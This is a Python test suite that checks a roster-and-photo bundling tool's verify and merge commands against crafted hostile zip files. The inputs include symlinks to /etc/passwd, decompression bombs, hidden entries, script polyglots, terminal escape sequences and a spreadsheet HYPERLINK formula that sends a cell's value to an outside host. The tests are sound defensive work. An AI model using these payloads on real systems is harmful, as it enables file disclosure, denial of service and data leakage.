"""verify and merge under attack (issue 9): every hostile bundle is built here
from a real `gradpack pack` bundle with Python's zipfile and byte patching,
or with tests/tools/jpegbomb; nothing binary is committed.  Each test asserts
the finding code and the exit status."""
import csv
import io
import os
import resource
import shutil
import stat
import struct
import subprocess
import time
import zipfile

from e2e_lib import (GRADPACK, GradpackTestCase, codes, findings, gradpack, gradpack_json, main,
                     make_photos, make_roster, run)

JPEGBOMB = os.environ.get("JPEGBOMB", "jpegbomb")


def copy_zip(src, dst, *, drop=(), change=None, add=(), comment=b""):
    """Copy src to dst entry by entry (ZipInfo kept): drop names,
    change(name, data) -> data, then add (ZipInfo or name, data) pairs."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = zin.read(info)
            if change:
                data = change(info.filename, data)
            zout.writestr(info, data)
        for info, data in add:
            zout.writestr(info, data)
        zout.comment = comment


def end_record(data):
    """(offset of the EOCD, central directory offset, size) of zip bytes."""
    at = data.rindex(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack("<II", data[at + 12:at + 20])
    return at, cd_offset, cd_size


def local_entry(name, payload):
    """A stored local file header + data (no central directory entry)."""
    import zlib
    n = name.encode()
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0x2821,
                       zlib.crc32(payload), len(payload), len(payload), len(n), 0) + n + payload


def read_bytes(path):
    with open(path, "rb") as f:
        return f.read()


def roster_text(rows):
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\r\n")
    w.writerows(rows)
    return "\ufeff" + out.getvalue()


class AttackTest(GradpackTestCase):
    def setUp(self):
        super().setUp()
        self.good = self.pack_station("station", 3, "station-a")
        with zipfile.ZipFile(self.good) as z:
            self.top = z.namelist()[0].split("/")[0]

    def pack_station(self, folder, n, name, *extra, tamper=None):
        root = self.path(folder)
        os.makedirs(root, exist_ok=True)
        roster = make_roster(os.path.join(root, "roster.csv"), n)
        if tamper:
            with open(roster, encoding="utf-8-sig") as f:
                rows = list(csv.reader(f))
            for row in rows[1:]:
                tamper(row)
            with open(roster, "w", encoding="utf-8", newline="") as f:
                f.write(roster_text(rows))
        photos = make_photos(os.path.join(root, "photos"), n)
        out = self.path(folder + "-out")
        proc = gradpack("pack", roster, photos, "-o", out, "--name", name, "--quiet", *extra)
        self.assertEqual(proc.returncode, 0, proc.stdout + proc.stderr)
        return os.path.join(out, name + ".zip")

    def verify(self, *args, expect_status, env=None):
        status, doc, proc = gradpack_json("verify", *args, cwd=self.tmp, env=env)
        self.assertEqual(status, expect_status, proc.stdout[-3000:] + proc.stderr)
        return doc

    def variant(self, name, **kw):
        path = self.path(name)
        copy_zip(self.good, path, **kw)
        return path

    # ---- 1. links and special files, whatever the "made by" host ------------

    def test_symlink_from_non_unix_hosts_is_refused(self):
        for host in (2, 5, 16, 30):  # VMS, ATARI, BeOS, AtheOS
            with self.subTest(host=host):
                link = zipfile.ZipInfo(f"{self.top}/roster.xlsx")
                link.create_system = host
                link.external_attr = (stat.S_IFLNK | 0o777) << 16
                path = self.variant(f"link{host}.zip", drop={f"{self.top}/roster.xlsx"},
                                    add=[(link, b"../../../../etc/passwd")])
                doc = self.verify(path, expect_status=1)
                self.assertTrue(findings(doc, "bundle.symlink"), doc["findings"])

    def test_fifo_and_device_entries_are_refused(self):
        fifo = zipfile.ZipInfo(f"{self.top}/photos/0009.jpg")
        fifo.create_system = 0  # MS-DOS, with Unix type bits all the same
        fifo.external_attr = (stat.S_IFIFO | 0o644) << 16
        dev = zipfile.ZipInfo(f"{self.top}/dev.txt")
        dev.create_system = 3
        dev.external_attr = (stat.S_IFCHR | 0o644) << 16
        doc = self.verify(self.variant("special.zip", add=[(fifo, b""), (dev, b"")]),
                          expect_status=1)
        self.assertEqual(len(findings(doc, "bundle.special_file")), 2, doc["findings"])

    # ---- 2. the office decides the rules ------------------------------------

    def hijacker(self, folder="hijack", name="hijack"):
        """A bundle packed with --profile generic for school 99999."""
        def school(row):
            row[7] = "99999"
            row[8] = "某某大学"
        return self.pack_station(folder, 2, name, "--profile", "generic", tamper=school)

    def test_bundle_cannot_choose_its_profile_in_verify(self):
        doc = self.verify(self.hijacker(), expect_status=1)
        self.assertCodes(doc, {"bundle.profile_mismatch", "bundle.school_mismatch",
                               "roster.school.mismatch"})
        f = findings(doc, "bundle.profile_mismatch")[0]
        self.assertEqual((f["actual"], f["expected"]), ("generic", "xinhua-shandong"))

    def test_office_profile_from_option_and_config(self):
        hijack = self.hijacker()
        # the office may choose generic itself: then the bundle passes
        self.verify(hijack, "--profile", "generic", expect_status=0)
        config = self.path("office.ini")
        with open(config, "w") as f:
            f.write("[office]\nprofile = generic\n")
        self.verify(hijack, "--config", config, expect_status=0)
        # --profile wins over the config
        doc = self.verify(hijack, "--config", config, "--profile", "xinhua-shandong",
                          expect_status=1)
        self.assertIn("bundle.profile_mismatch", codes(doc))
        with open(config, "w") as f:
            f.write("[office]\nprofile = no-such-profile\n")
        proc = gradpack("verify", hijack, "--config", config)
        self.assertEqual(proc.returncode, 2, proc.stdout + proc.stderr)
        with open(config, "w") as f:
            f.write("[office]\nrules = mine\n")
        proc = gradpack("verify", hijack, "--config", config)
        self.assertEqual(proc.returncode, 2, proc.stdout + proc.stderr)
        proc = gradpack("verify", hijack, "--config", self.path("missing.ini"))
        self.assertEqual(proc.returncode, 2, proc.stdout + proc.stderr)
        # a FIFO is refused, not waited on (read like every other input)
        fifo = self.path("fifo.ini")
        os.mkfifo(fifo)
        proc = gradpack("verify", hijack, "--config", fifo, timeout=20)
        self.assertEqual(proc.returncode, 2, proc.stdout + proc.stderr)
        self.assertIn("不是普通文件", proc.stderr)

    def test_school_block_must_agree(self):
        def school(name, data):
            if name.endswith("bundle.json"):
                return data.replace(b'"school_code": "10433"', b'"school_code": "99999"')
            return data
        doc = self.verify(self.variant("school.zip", change=school), expect_status=1)
        f = findings(doc, "bundle.school_mismatch")
        self.assertEqual(len(f), 1, doc["findings"])
        self.assertEqual((f[0]["field"], f[0]["actual"], f[0]["expected"]),
                         ("school_code", "99999", "10433"))
        # under a profile that pins no school, the roster is the reference
        doc = self.verify(self.path("school.zip"), "--profile", "generic", expect_status=1)
        f = findings(doc, "bundle.school_mismatch")
        self.assertEqual(len(f), 1, doc["findings"])
        self.assertEqual((f[0]["row"], f[0]["expected"]), (2, "10433"))

    def test_first_bundle_in_the_inbox_does_not_set_the_nights_profile(self):
        inbox = self.path("inbox")
        os.makedirs(inbox)
        shutil.copy(self.hijacker(), os.path.join(inbox, "A-first.zip"))
        shutil.copy(self.good, os.path.join(inbox, "B-real.zip"))
        status, doc, proc = gradpack_json("merge", inbox, "-o", self.path("merged"))
        self.assertEqual(status, 1, proc.stdout[-2000:] + proc.stderr)
        held = {f["source"] for f in findings(doc, "merge.bundle_held")}
        self.assertEqual(held, {"A-first.zip"})
        self.assertIn("bundle.profile_mismatch", codes(doc))
        outputs = sorted(os.listdir(self.path("merged")))
        self.assertIn("10433-汇总.zip", outputs)
        self.assertFalse([o for o in outputs if o.startswith("99999")], outputs)
        self.assertEqual(doc["profile"], "xinhua-shandong")

    # ---- 3. bounded cost -----------------------------------------------------

    def bomb(self, name, *args):
        path = self.path(name)
        proc = run([JPEGBOMB, path, *map(str, args)])
        self.assertEqual(proc.returncode, 0, proc.stderr)
        return path

    def with_photos(self, name, photo, count):
        data = read_bytes(photo)
        def swap(entry, old):
            return data if "/photos/" in entry else old
        # 20 photos: add numbers 0004.. beside the three real ones
        add = [(f"{self.top}/photos/{i:04d}.jpg", data) for i in range(4, count + 1)]
        path = self.path(name)
        copy_zip(self.good, path, change=swap, add=add)
        return path

    def timed_verify(self, *args, env=None, expect_status=1):
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        started = time.monotonic()
        doc = self.verify(*args, "--threads", "1", env=env, expect_status=expect_status)
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
        return doc, cpu, time.monotonic() - started, after.ru_maxrss

    def test_progressive_bomb_is_refused_before_decoding(self):
        # 380 scans; the frame header says 8000x8000 (the bomb: ~5 CPU-s
        # and ~380 MB each before this limit)
        photo = self.bomb("bomb.jpg", 960, 1280, 440, "--sof", "8000x8000")
        path = self.with_photos("bomb.zip", photo, 20)
        self.assertLess(os.path.getsize(path), 600_000)
        doc, cpu, wall, rss_kb = self.timed_verify(path)
        oversized = findings(doc, "photo.oversized")
        self.assertEqual(len(oversized), 20, doc["findings"])
        self.assertEqual(oversized[0]["actual"], "8000×8000")
        self.assertNotIn("photo.corrupt", codes(doc))
        self.assertLess(cpu, 5.0, f"20 refused photos took {cpu:.2f} CPU-s")
        self.assertLess(rss_kb, 400 * 1024, f"peak RSS {rss_kb} KB")

    def test_deflated_bomb_photos_are_refused_by_ratio(self):
        # the form: 0.8 MB photos deflating to a few KB, so that 20 of
        # them make a 65 KB zip; a JPEG hardly deflates, so 10:1 is refused
        # (also under 1 MiB) and the photo is never decoded
        photo = self.bomb("flat.jpg", 960, 1280, 440, "--sof", "8000x8000")
        data = read_bytes(photo) + b"\0" * 700_000  # padding after EOI deflates to nothing
        def swap(entry, old):
            return data if "/photos/" in entry else old
        path = self.path("deflated.zip")
        with zipfile.ZipFile(self.good) as zin, \
                zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
            for info in zin.infolist():
                zout.writestr(info.filename, swap(info.filename, zin.read(info)))
            for i in range(4, 21):
                zout.writestr(f"{self.top}/photos/{i:04d}.jpg", data)
        self.assertLess(os.path.getsize(path), 300_000)
        doc, cpu, wall, _ = self.timed_verify(path)
        too_large = [f for f in findings(doc, "bundle.too_large") if "ratio" in f["message"]]
        self.assertEqual(len(too_large), 20, doc["findings"])
        self.assertNotIn("photo.oversized", codes(doc))  # never got as far as decoding
        self.assertLess(cpu, 5.0)

    def test_too_many_scans_stop_the_decode(self):
        # within the pixel limit, but 380 scans: stopped at 64
        photo = self.bomb("scans.jpg", 960, 1280, 440)
        doc, cpu, wall, _ = self.timed_verify(self.with_photos("scans.zip", photo, 10))
        corrupt = findings(doc, "photo.corrupt")
        self.assertEqual(len(corrupt), 10, doc["findings"])
        self.assertIn("more than 64 progressive scans", corrupt[0]["message"])
        self.assertLess(cpu, 10.0)

    def test_cpu_budget_per_bundle(self):
        # a budget of 1 ms: the first photo spends it, the rest are not decoded
        photo = self.bomb("cost.jpg", 960, 1280, 60)
        path = self.with_photos("cost.zip", photo, 8)
        doc, cpu, wall, _ = self.timed_verify(path, env={"GRADPACK_CPU_BUDGET_MS": "1"})
        costly = findings(doc, "bundle.too_costly")
        self.assertEqual(len(costly), 1, doc["findings"])
        self.assertIn("其余 7 张照片未解码", costly[0]["message"])
        # without the low budget the same bundle is decoded in full
        doc = self.verify(path, "--threads", "1", expect_status=1)
        self.assertNotIn("bundle.too_costly", codes(doc))

    # ---- 5. every byte covered by the central directory ---------------------

    def test_hidden_local_entry(self):
        data = read_bytes(self.good)
        eocd, cd_offset, cd_size = end_record(data)
        hidden = local_entry(f"{self.top}/roster.csv", "forged\r\n".encode())
        forged = (data[:cd_offset] + hidden + data[cd_offset:eocd + 16] +
                  struct.pack("<I", cd_offset + len(hidden)) + data[eocd + 20:])
        path = self.path("hidden.zip")
        with open(path, "wb") as f:
            f.write(forged)
        self.assertTrue(zipfile.is_zipfile(path))
        doc = self.verify(path, expect_status=1)
        f = findings(doc, "bundle.hidden_entry")
        self.assertEqual(len(f), 1, doc["findings"])
        self.assertEqual(f[0]["file"], f"{self.top}/roster.csv")

    def test_polyglot_prefix(self):
        path = self.path("polyglot.zip")
        with open(path, "wb") as f:
            f.write(b"<html><script>alert(1)</script></html>\n")
        with zipfile.ZipFile(self.good) as zin, zipfile.ZipFile(path, "a") as zout:
            for info in zin.infolist():
                zout.writestr(info, zin.read(info))
        doc = self.verify(path, expect_status=1)
        f = findings(doc, "bundle.stray_bytes")
        self.assertTrue(f, doc["findings"])
        self.assertIn("开头", f[0]["message"])

    def test_comment_and_trailing_data(self):
        doc = self.verify(self.variant("comment.zip", comment=b"see http://evil"),
                          expect_status=1)
        self.assertIn("注释", findings(doc, "bundle.stray_bytes")[0]["message"])
        # a fake end record inside the comment does not hide the comment
        fake = b"PK\x05\x06" + b"\0" * 18
        doc = self.verify(self.variant("fake-end.zip", comment=b"x" + fake), expect_status=1)
        self.assertTrue(findings(doc, "bundle.stray_bytes"), doc["findings"])
        path = self.path("trailing.zip")
        with open(path, "wb") as f:
            f.write(read_bytes(self.good) + b"\0" * 100)
        doc = self.verify(path, expect_status=1)
        self.assertTrue(findings(doc, "bundle.stray_bytes"), doc["findings"])

    def test_zip64_and_data_descriptors_are_not_stray_bytes(self):
        # Info-ZIP's zip writes Zip64 records (-fz) and, into a pipe, data
        # descriptors: every byte still belongs to a listed entry
        extracted = self.path("x")
        with zipfile.ZipFile(self.good) as z:
            z.extractall(extracted)
        variants = {"z64.zip": ["zip", "-q", "-r", "-X", "-fz", self.path("z64.zip"), self.top]}
        for name, cmd in variants.items():
            self.assertEqual(run(cmd, cwd=extracted).returncode, 0)
        proc = subprocess.run(["zip", "-q", "-r", "-X", "-fz", "-", self.top], cwd=extracted,
                              stdout=subprocess.PIPE)  # a pipe: zip cannot seek back
        self.assertEqual(proc.returncode, 0)
        with open(self.path("stream.zip"), "wb") as out:
            out.write(proc.stdout)
        with zipfile.ZipFile(self.path("stream.zip")) as z:
            self.assertTrue(all(i.flag_bits & 8 for i in z.infolist() if not i.is_dir()))
        for name in ("z64.zip", "stream.zip"):
            with self.subTest(name=name):
                status, doc, proc = gradpack_json("verify", self.path(name))
                self.assertFalse({"bundle.stray_bytes", "bundle.hidden_entry"} & codes(doc),
                                 doc["findings"])

    def test_packed_bundle_has_no_stray_bytes(self):
        doc = self.verify(self.good, expect_status=0)
        self.assertFalse(codes(doc, "error"), doc["findings"])

    # ---- 6. parts bound to each other ----------------------------------------

    def test_forged_part_of_another_submission(self):
        a = self.pack_station("pa", 4, "S", "--max-part-size", "1300K")
        b = self.pack_station("pb", 4, "S", "--max-part-size", "1300K",
                              tamper=lambda row: row.__setitem__(3, row[3] + "乙"))
        a_dir, b_dir = os.path.dirname(a), os.path.dirname(b)
        parts = sorted(p for p in os.listdir(a_dir) if p.endswith(".zip"))
        self.assertEqual(len(parts), 2, parts)
        # the genuine set passes and carries one submission id
        doc = self.verify(*(os.path.join(a_dir, p) for p in parts), expect_status=0)
        forged = [os.path.join(a_dir, parts[0]), os.path.join(b_dir, parts[1])]
        doc = self.verify(*forged, expect_status=1)
        mismatch = findings(doc, "bundle.part_mismatch")
        self.assertEqual(len(mismatch), 2, doc["findings"])
        inbox = self.path("inbox")
        os.makedirs(inbox)
        for p in forged:
            shutil.copy(p, inbox)
        status, doc, proc = gradpack_json("merge", inbox, "-o", self.path("merged"))
        self.assertEqual(status, 1)
        self.assertEqual(len(findings(doc, "merge.bundle_held")), 2, doc["findings"])

    # ---- 8. escape sequences never reach the terminal --------------------------

    def test_escape_sequences_in_station_name_and_file_name(self):
        evil = "\x1b[2J\x1b[H结论：全部符合要求\u202e"
        def station(name, data):
            if name.endswith("bundle.json"):
                import json
                doc = json.loads(data)
                doc["station"] = {"name": evil}
                return json.dumps(doc, ensure_ascii=False).encode()
            return data
        path = self.variant("\x1b[2Jevil.zip", change=station)
        proc = gradpack("verify", path, cwd=self.tmp)
        self.assertEqual(proc.returncode, 1)
        self.assertNotIn("\x1b", proc.stdout)
        self.assertNotIn("\u202e", proc.stdout)
        self.assertIn("\\x1B[2J", proc.stdout)
        self.assertIn("\\u202E", proc.stdout)
        # pack never writes such a name: it is a bundle.metadata finding, shown
        # escaped there, and not carried on as the bundle's station
        status, doc, _ = gradpack_json("verify", path, cwd=self.tmp)
        bad = [f for f in findings(doc, "bundle.metadata") if f.get("field") == "station.name"]
        self.assertEqual(len(bad), 1, doc["findings"])
        self.assertEqual(bad[0]["actual"], "\\x1B[2J\\x1B[H结论：全部符合要求\\u202E")
        self.assertEqual(doc["bundles"][0]["station"], "")
        inbox = self.path("inbox")
        os.makedirs(inbox)
        shutil.copy(path, inbox)
        proc = gradpack("merge", inbox, "-o", self.path("merged"), "--verbose")
        self.assertNotIn("\x1b", proc.stdout + proc.stderr)

    # ---- 9. names ----------------------------------------------------------------

    def test_esc_and_invalid_utf8_names_are_bad_names(self):
        doc = self.verify(self.variant("esc.zip", add=[(f"{self.top}/a\x1b[2Jb.txt", b"x")]),
                          expect_status=1)
        self.assertIn("bundle.bad_name", codes(doc))
        self.assertNotIn("bundle.not_zip", codes(doc))
        # a name flagged UTF-8 that is not: libzip refuses the archive, the
        # finding still names the entry
        path = self.variant("utf8.zip", add=[(f"{self.top}/café.txt", b"x")])
        data = read_bytes(path).replace("café".encode(), b"caf\xff\xfe")
        with open(path, "wb") as f:
            f.write(data)
        doc = self.verify(path, expect_status=1)
        self.assertIn("bundle.bad_name", codes(doc))
        self.assertNotIn("bundle.not_zip", codes(doc))

    def test_nul_in_name(self):
        path = self.variant("nul.zip", add=[(f"{self.top}/aQQQb.txt", b"x")])
        data = read_bytes(path).replace(b"aQQQb", b"a\x00\x00\x00b")
        with open(path, "wb") as f:
            f.write(data)
        doc = self.verify(path, expect_status=1)
        bad = findings(doc, "bundle.bad_name")
        self.assertTrue(bad, doc["findings"])
        self.assertIn("\\x00", bad[0]["file"])

    def test_nfc_nfd_twins_are_duplicates(self):
        nfc, nfd = "caf\u00e9.txt", "cafe\u0301.txt"
        doc = self.verify(self.variant("twins.zip", add=[(f"{self.top}/{nfc}", b"1"),
                                                         (f"{self.top}/{nfd}", b"2")]),
                          expect_status=1)
        dup = findings(doc, "bundle.duplicate_entry")
        self.assertEqual(len(dup), 1, doc["findings"])
        self.assertIn("NFC", dup[0]["message"])

    # ---- 11. roster values --------------------------------------------------------

    def check_roster(self, tamper):
        root = self.path("r")
        os.makedirs(root, exist_ok=True)
        roster = make_roster(os.path.join(root, "roster.csv"), 2)
        with open(roster, encoding="utf-8-sig") as f:
            rows = list(csv.reader(f))
        tamper(rows[1])
        with open(roster, "w", encoding="utf-8", newline="") as f:
            f.write(roster_text(rows))
        photos = make_photos(os.path.join(root, "photos"), 2)
        status, doc, proc = gradpack_json("pack", roster, photos, "-o", self.path("r-out"))
        self.assertEqual(status, 1, proc.stdout[-2000:])
        self.assertFalse(os.path.exists(self.path("r-out", "roster.xlsx")))
        return doc

    def test_noncharacter_and_controls_in_roster(self):
        for value in ("张\ufffe三", "张\uffff三", "王\u202e明", "李\x1b[2J", "赵\u0085钱"):
            with self.subTest(value=value):
                doc = self.check_roster(lambda row: row.__setitem__(3, value))
                f = findings(doc, "roster.field.control")
                self.assertEqual(len(f), 1, doc["findings"])
                self.assertEqual(f[0]["row"], 2)

    def test_formula_cells_in_roster(self):
        for value in ("=HYPERLINK(\"http://x/\"&F2)", "+1", "-2", "@SUM(A1)"):
            with self.subTest(value=value):
                doc = self.check_roster(lambda row: row.__setitem__(2, value))
                self.assertEqual(len(findings(doc, "roster.field.formula")), 1, doc["findings"])

    def test_control_character_in_received_roster(self):
        def tamper(name, data):
            if name.endswith("roster.csv"):
                lines = data.decode("utf-8-sig").split("\r\n")
                cells = lines[1].split(",")
                cells[3] = "张\ufffe三"
                lines[1] = ",".join(cells)
                return ("\ufeff" + "\r\n".join(lines)).encode()
            return data
        doc = self.verify(self.variant("fffe.zip", change=tamper), expect_status=1)
        self.assertIn("roster.field.control", codes(doc))

    # ---- codes that had no test -----------------------------------------------------

    def test_layout_manifest_metadata_and_missing_files(self):
        cases = {
            "layout": dict(add=[("stray.txt", b"x")]),
            "manifest_syntax": dict(change=lambda n, d: b"not a manifest\n"
                                    if n.endswith("MANIFEST.sha256") else d),
            "metadata": dict(change=lambda n, d: b"{ not json" if n.endswith("bundle.json") else d),
            "workbook_missing": dict(drop={f"{self.top}/roster.xlsx"}),
            "roster_missing": dict(drop={f"{self.top}/roster.csv"}),
        }
        for code, kw in cases.items():
            with self.subTest(code=code):
                doc = self.verify(self.variant(code + ".zip", **kw), expect_status=1)
                self.assertIn("bundle." + code, codes(doc), doc["findings"])


if __name__ == "__main__":
    main()
